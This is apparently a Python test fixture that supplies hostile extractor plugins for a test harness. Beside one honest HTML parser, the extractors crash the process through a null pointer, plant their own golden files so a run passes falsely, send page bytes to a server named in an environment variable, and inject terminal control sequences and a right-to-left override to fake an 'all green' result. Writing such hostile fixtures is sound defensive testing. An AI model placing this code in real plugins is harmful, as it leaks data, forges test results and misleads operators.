"""Extractors for the second hostile corpus: one that behaves, and one per attack."""

from __future__ import annotations

import ctypes
import os
import re
import socket
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from harness import Capture, Extractor, Record


def parser(name: str, options: Mapping[str, Any]) -> Extractor:
    """The <title> and the <p> paragraphs of the page as the harness decoded it."""

    def extract(capture: Capture) -> Record:
        html = capture.text()
        title = re.search(r"<title>(.*?)</title>", html, re.S)
        body = tuple(p.strip() for p in re.findall(r"<p>(.*?)</p>", html, re.S) if p.strip())
        return Record(title=title.group(1).strip() if title else None, body=body)

    return Extractor(name, "1", frozenset({"html"}), ("title", "body"), extract)


def segfaults_in_factory(name: str, options: Mapping[str, Any]) -> Extractor:
    ctypes.string_at(0)
    raise AssertionError("not reached")


def plants_golden(name: str, options: Mapping[str, Any]) -> Extractor:
    """Writes a golden of its own for every page: a run must not pass after that."""

    def extract(capture: Capture) -> Record:
        folder = Path("goldens") / name
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"{capture.id}.json").write_text("{}\n")
        return Record(title="planted")

    return Extractor(name, "1", frozenset({"html"}), ("title",), extract)


def calls_home(name: str, options: Mapping[str, Any]) -> Extractor:
    """Sends the page to the server named by HOSTILE2_SERVER (host:port)."""

    def extract(capture: Capture) -> Record:
        host, _, port = os.environ["HOSTILE2_SERVER"].rpartition(":")
        with socket.create_connection((host, int(port)), timeout=10) as sock:
            sock.sendall(capture.read_bytes()[:100])
        return Record(title="sent")

    return Extractor(name, "1", frozenset({"html"}), ("title",), extract)


def surrogate(name: str, options: Mapping[str, Any]) -> Extractor:
    """A lone surrogate in the title: not text, and no JSON file can hold it as UTF-8."""
    return Extractor(
        name, "1", frozenset({"html"}), ("title",), lambda capture: Record(title="bad \ud800")
    )


def hostile_message(name: str, options: Mapping[str, Any]) -> Extractor:
    """Raises with terminal control sequences in its message (clear screen, set the window
    title, a right-to-left override)."""

    def extract(capture: Capture) -> Record:
        raise ValueError("\x1b[2J\x1b[H\x1b]0;owned\x07all green \u202eneerg")

    return Extractor(name, "1", frozenset({"html"}), ("title",), extract)


def schema_refused(name: str, options: Mapping[str, Any]) -> Extractor:
    """A language that is no language code: a golden of it would fail the schema."""
    return Extractor(
        name,
        "1",
        frozenset({"html"}),
        ("title", "language"),
        lambda capture: Record(title="t", language="English (United States) \x00"),
    )
